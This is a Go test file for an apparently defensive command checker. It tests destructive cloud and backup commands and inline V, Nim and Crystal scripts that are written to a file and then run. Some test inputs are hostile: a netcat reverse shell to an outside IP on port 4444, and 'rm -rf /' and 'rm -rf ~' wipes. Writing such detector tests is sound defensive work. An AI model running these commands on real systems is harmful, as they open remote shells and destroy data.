package configs_test

import "testing"

// A flag that a table does not have may take the next word: then --dry-run behind it is none, and the
// word behind it is not the subcommand.
func TestUnknownFlagsTakeWords(t *testing.T) {
	judge := verdicts(t)
	asks(t, judge, true, `
		rclone --new-flag --dry-run purge remote:archive
		restic --new-flag --dry-run forget latest --prune
		gcloud --new-flag --help compute instances delete api-1
		az --new-flag --help vm delete --name api-1 --yes
		rclone --new-flag value purge remote:archive
		rclone -J value purge remote:archive
		supabase --new-flag yes db reset --linked
		restic --new-flag value forget --prune
		npm --new-flag value publish`)
	asks(t, judge, false, `
		rclone --dry-run purge remote:archive
		rclone --new-flag=x --dry-run purge remote:archive
		rclone purge remote:archive --dry-run --new-flag
		gcloud compute instances delete api-1 --help
		aws s3 rm s3://archive/a.json --no-dryrun --dryrun
		rclone --new-flag value ls remote:archive`)
}

// The file that v run, nim r and their like start is their second word.
func TestRunnersWithSubcommands(t *testing.T) {
	asksAll(t, []string{
		`echo 'fn main() { os.system("nc -e /bin/bash 203.0.113.5 4444") }' > x.v && v run x.v`,
		`echo 'discard execShellCmd("x"); system("rm -rf /")' > x.nim && nim r x.nim`,
		`echo 'system("rm -rf ~")' > x.cr && crystal run x.cr`,
	})
	passesAll(t, []string{
		`echo 'fn main() { println("hello") }' > x.v && v run x.v`,
		"dart run bin/main.dart",
		"crystal run a.cr",
	})
}
